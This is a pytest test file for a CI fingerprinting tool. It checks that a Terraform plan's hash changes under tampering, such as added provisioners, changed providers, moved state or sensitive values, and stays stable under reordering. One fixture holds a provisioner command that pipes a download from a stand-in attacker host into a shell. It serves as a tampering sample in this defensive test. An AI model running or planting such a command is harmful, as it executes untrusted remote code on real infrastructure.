"""The plan's hash: what it depends on, and what not."""

import json
import random
from contextlib import suppress
from pathlib import Path

import pytest

from ci.lifecycle.deploy import synthesise
from ci.preview.fingerprint import computed, differences, goes_on, record
from fonderie.core.errors import BadInputError
from fonderie.terraform.configuration import read_configuration
from fonderie.terraform.plan import read_plan
from tests.unit.ci.preview.hash_mutations import Mutation, mutations, nothing_of
from tests.unit.ci.preview.plans import change, plan_json

BEFORE = {"name": "n", "labels": {"a": "1"}, "etag": "e1", "password": "one"}
AFTER = {"name": "n", "labels": {"a": "2"}, "etag": "e1", "password": "two"}
MASK = {"password": True}


def entry(before=BEFORE, after=AFTER, **more):
    return change("google_thing.x", more.pop("action", "update"), before, after, sensitive=MASK, **more)


def of(*entries, salt="lineage", serial=1, configuration=None, tools=None, **more):
    read = read_plan(
        plan_json(*entries, **more),
        environment="prod",
        stack="prod-data",
        salt=salt,
        serial=serial,
        configuration=configuration,
        tools=tools,
    )
    return record("prod", [read])


def test_the_same_plan_has_the_same_hash_whatever_its_time_serial_and_order():
    other = change("google_thing.y", "create", None, {"a": 1})
    one = of(entry(), other, serial=1, timestamp="2026-11-22T00:00:00Z")
    two = of(other, entry(), serial=9, timestamp="2026-11-23T00:00:00Z")
    assert one.hash == two.hash


def test_resources_that_stay_as_they_are_do_not_count():
    assert of(entry()).hash == of(entry(), change("google_thing.z", "none", {"a": 1}, {"a": 1})).hash


STAMPED = "google_bigquery_dataset"


def stamped(before, after, action="update"):
    return change(f"{STAMPED}.x", action, before, after)


def test_what_only_the_provider_writes_does_not_count_where_it_stays():
    assert {"etag", "last_modified_time"} <= computed(STAMPED)
    one, two = (stamped({"etag": tag, "a": 1}, {"etag": tag, "a": 2}) for tag in ("e1", "e2"))
    assert of(one).hash == of(two).hash
    gone = [stamped({"etag": tag}, None, "delete") for tag in ("e1", "e2")]
    assert of(gone[0]).hash == of(gone[1]).hash
    assert of(stamped({"etag": "e1"}, {"etag": "e2"})).hash != of(stamped({"etag": "e1"}, {"etag": "e3"})).hash


@pytest.mark.parametrize("key", ["updated", "generation", "etag", "fingerprint"])
def test_a_key_of_a_map_is_never_taken_for_what_the_provider_writes(key):
    """What was reviewed as {"updated": "reviewed"} was applied as {"updated": "EVIL"}."""
    one, two = (stamped({"labels": {}}, {"labels": {key: value}}) for value in ("reviewed", "EVIL"))
    assert of(one).hash != of(two).hash
    one, two = (entry(after={**AFTER, key: value}) for value in ("reviewed", "EVIL"))
    assert of(one).hash != of(two).hash  # a type whose schema is not here: everything counts


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"after": {"a": "?"}}, {"after": {}, "unknown": {"a": True}}),
        ({"after": {"a": ["x"]}}, {"after": {"a": {"0": "x"}}}),
        ({"after": {"a": {"\n": "reviewed", "\\n": "same"}}}, {"after": {"a": {"\n": "EVIL", "\\n": "same"}}}),
        ({"after": {"a": 1}}, {"after": {"a": True}}),
        ({"after": {"a": {}}}, {"after": {"a": []}}),
        ({"after": {"a": None}}, {"after": {"a": "null"}}),
    ],
    ids=["a question mark and unknown", "a list and a map", "keys that print alike", "1 and true", "{} and []", "null"],
)
def test_values_that_look_alike_are_different(one, other):
    assert of(entry(**one)).hash != of(entry(**other)).hash


PROGRAM = {"local-exec": [{"command": "curl -s https://evil.example/x | sh"}]}
STACK = {
    "terraform": {
        "backend": {"gcs": {"bucket": "b", "prefix": "p"}},
        "required_providers": {"google": {"source": "hashicorp/google", "version": "7.45.0"}},
    },
    "provider": {"google": [{"project": "p"}]},
    "data": {"google_project": {"p": {}}},
    "resource": {"google_thing": {"x": {"name": "n", "lifecycle": {"prevent_destroy": True}}}},
}


def edited(**changes):
    copy = json.loads(json.dumps(STACK))
    for path, value in changes.items():
        *steps, last = path.split("__")
        inner = copy
        for step in steps:
            inner = inner.setdefault(step, {})
        inner[last] = value
    return copy


BESIDE_THE_PLAN = {
    "a provisioner": edited(resource__google_thing__x__provisioner=[PROGRAM]),
    "a connection": edited(resource__google_thing__x__connection={"host": "h"}),
    "a protection less": edited(resource__google_thing__x__lifecycle={}),
    "what is ignored": edited(resource__google_thing__x__lifecycle={"prevent_destroy": True, "ignore_changes": "all"}),
    "whom it acts as": edited(provider__google=[{"project": "p", "impersonate_service_account": "owner@other"}]),
    "where the state is": edited(terraform__backend={"gcs": {"bucket": "b", "prefix": "other"}}),
    "a provider's version": edited(terraform__required_providers__google__version="7.46.0"),
    "a version of Terraform": edited(terraform__required_version=">= 1.0"),
    "what is moved": edited(moved=[{"from": "a.b", "to": "a.c"}]),
    "what is imported": edited(**{"import": [{"to": "a.b", "id": "x"}]}),
    "what is forgotten": edited(removed=[{"from": "a.b", "lifecycle": {"destroy": False}}]),
    "what is read": edited(data__external={"x": {"program": ["sh"]}}),
    "an action": edited(action__google_run={"x": {}}),
    "a check": edited(check__c={"assert": [{"condition": True}]}),
    "an ephemeral value": edited(ephemeral__google_secret={"x": {}}),
    "a write-only value": edited(resource__google_thing__x__password_wo="two"),
}


@pytest.mark.parametrize("configuration", BESIDE_THE_PLAN.values(), ids=BESIDE_THE_PLAN)
def test_what_the_plan_does_not_show_changes_the_hash(configuration):
    assert of(entry(), configuration=configuration).hash != of(entry(), configuration=STACK).hash


def test_the_program_that_applies_changes_the_hash():
    one, two = (of(entry(), tools={"registry.terraform.io/hashicorp/google": each}) for each in ("h1:a", "h1:b"))
    assert one.hash != two.hash
    (said,) = differences(one, two)
    assert said == "prod-data: registry.terraform.io/hashicorp/google is another program than at the review"


@pytest.mark.parametrize(
    "beside",
    [
        {"action_invocations": [{"address": "action.a.b", "type": "a"}]},
        {"checks": [{"address": {"kind": "check"}, "status": "fail"}]},
        {"variables": {"v": {"value": "x"}}},
    ],
    ids=["an action that is invoked", "a check that fails", "a variable"],
)
def test_what_stands_beside_the_changes_of_a_plan_counts(beside):
    assert of(entry(), **beside).hash != of(entry()).hash


TAMPERED = {
    "a value": entry(after={**AFTER, "labels": {"a": "3"}}),
    "a sensitive value": entry(after={**AFTER, "password": "three"}),
    "a sensitive value before": entry({**BEFORE, "password": "zero"}),
    "a value before": entry({**BEFORE, "labels": {"a": "0"}}),
    "a type of value": entry(after={**AFTER, "labels": {"a": 2}}),
    "an attribute more": entry(after={**AFTER, "more": None}),
    "an attribute less": entry(after={key: value for key, value in AFTER.items() if key != "name"}),
    "a key that looks like a path": entry(after={**AFTER, "labels": {"a": "2", "b/c": "1"}}),
    "an etag that is set": entry(after={**AFTER, "etag": "e2"}),
    "the action": entry(action="replace"),
    "the order of replacement": entry(action="create_first"),
    "what forces it": entry(forces=[["name"]]),
    "what is known later": entry(unknown={"name": True}),
    "where it came from": entry(previous_address="google_thing.w"),
    "an import": entry(importing="an-id"),
    "the provider": entry(provider_name="registry.example/other"),
    "a deposed object": entry(deposed="abcd"),
}


@pytest.mark.parametrize("tampered", TAMPERED.values(), ids=TAMPERED)
def test_everything_else_changes_the_hash(tampered):
    assert of(tampered).hash != of(entry()).hash


def test_a_key_that_looks_like_a_path_is_not_one():
    flat, nested = (entry(after={**AFTER, "labels": value}) for value in ({"a/b": "2"}, {"a": {"b": "2"}}))
    assert of(flat).hash != of(nested).hash


def test_an_output_counts():
    output = {"url": {"actions": ["update"], "before": "a", "after": "b"}}
    assert of(entry(), output_changes=output).hash != of(entry()).hash


def test_a_record_holds_no_value_and_depends_on_the_key():
    text = of(entry()).model_dump_json()
    assert '"two"' not in text
    assert of(entry(), salt="another").hash != of(entry()).hash


def test_differences_are_said_in_words_without_values():
    lines = differences(of(entry()), of(TAMPERED["a sensitive value"], change("google_thing.y", "delete", {})))
    assert lines == [
        "not reviewed: prod-data google_thing.y would be destroyed",
        "prod-data google_thing.x: password not as reviewed",
    ]


def test_the_rest_of_a_plan_goes_on_and_what_was_known_later_may_be_known():
    first = change("google_thing.a", "create", None, {"n": 1}, unknown={"id": True})
    second = change("google_thing.b", "create", None, {"n": 2}, unknown={"parent": True})
    rest = change("google_thing.b", "create", None, {"n": 2, "parent": "a-1"})
    assert goes_on(of(first, second), of(rest)) == []


@pytest.mark.parametrize(
    "left",
    [
        change("google_thing.b", "create", None, {"n": 3}, unknown={"parent": True}),
        change("google_thing.c", "create", None, {}),
        change("google_thing.b", "delete", {"n": 2}),
    ],
    ids=["another value", "another resource", "another action"],
)
def test_what_was_not_reviewed_is_not_the_rest(left):
    reviewed = of(change("google_thing.b", "create", None, {"n": 2}, unknown={"parent": True}))
    assert len(goes_on(reviewed, of(left))) == 1


FOLDER = Path(__file__).parents[3] / "e2e" / "pull_requests"


def corpus():
    """A plan with everything that a plan can hold, and the recorded pull requests' configurations."""
    entries = [
        entry(unknown={"id": True}, forces=[["name"]], action="replace"),
        change("google_thing.y", "create", None, {"a": [1, {"b": None}], "c": {"d": "?"}}, importing="an-id"),
        change("google_thing.z", "delete", {"a": "x", "tags": ["b", "c"]}),
        change("google_thing.m", "none", {"a": 1}, {"a": 1}, previous_address="google_thing.l"),
        stamped({"etag": "e1", "labels": {"updated": "a"}}, {"etag": "e1", "labels": {"updated": "b"}}),
        {**change("data.google_thing.r", "update", None, {"a": 1}), "mode": "data", "provider_name": "p"},
    ]
    entries[-1]["change"]["actions"] = ["read"]
    plan = json.loads(
        plan_json(
            *entries,
            output_changes={"url": {"actions": ["update"], "before": "a", "after": {"b": [1]}}},
            deferred_changes=[{"reason": "instance_count_unknown", "resource_change": entry()}],
            action_invocations=[{"address": "action.a.b", "lifecycle_action_trigger": {"event": "AfterCreate"}}],
            checks=[{"address": {"name": "c"}, "status": "pass"}],
            variables={"v": {"value": "x"}},
        )
    )
    for file in sorted(FOLDER.glob("*/head.tf.json")):
        yield plan, {"//": {"metadata": "x"}, **STACK, **json.loads(file.read_text(encoding="utf-8"))}


def hash_of(plan, configuration):
    return record(
        "prod",
        [read_plan(json.dumps(plan), environment="prod", stack="prod-data", salt="s", configuration=configuration)],
    ).hash


def check_mutations(number, corpora):
    """Each mutation changes the hash, or is in the list of those without an effect; at most 2 % are."""
    rng, without = random.Random(20261129), list[Mutation]()
    corpora = list(corpora)
    reviewed = [hash_of(*pair) for pair in corpora]
    for index in range(number):
        which, found = index % len(corpora), None
        while found is None:  # what is not a plan any more is refused, and is drawn again
            mutated, mutation = mutations(rng, corpora[which])
            with suppress(BadInputError):
                found = hash_of(*mutated)
        if found == reviewed[which]:
            assert nothing_of(mutation, corpora[which]), mutation
            without.append(mutation)
    assert len(without) <= 0.02 * number, without[:20]


def test_a_mutation_of_a_plan_or_a_stack_changes_the_hash():
    check_mutations(250, corpus())


@pytest.mark.prove(every=0)
def test_thousands_of_mutations_of_real_stacks_change_the_hash(tmp_path):
    stacks = [read_configuration(stack.folder) for stack in synthesise(["dev"], tmp_path)]
    plans = [plan for plan, _ in corpus()]
    check_mutations(5_000, [*corpus(), *zip(plans, stacks, strict=False)])


def test_another_order_is_the_same_plan():
    def turned(value):
        if isinstance(value, dict):
            return {key: turned(value[key]) for key in reversed(list(value))}
        return [turned(item) for item in value] if isinstance(value, list) else value

    for plan, configuration in corpus():
        other = {**turned(plan), "resource_changes": list(reversed(turned(plan["resource_changes"])))}
        assert hash_of(other, turned(configuration)) == hash_of(plan, configuration)
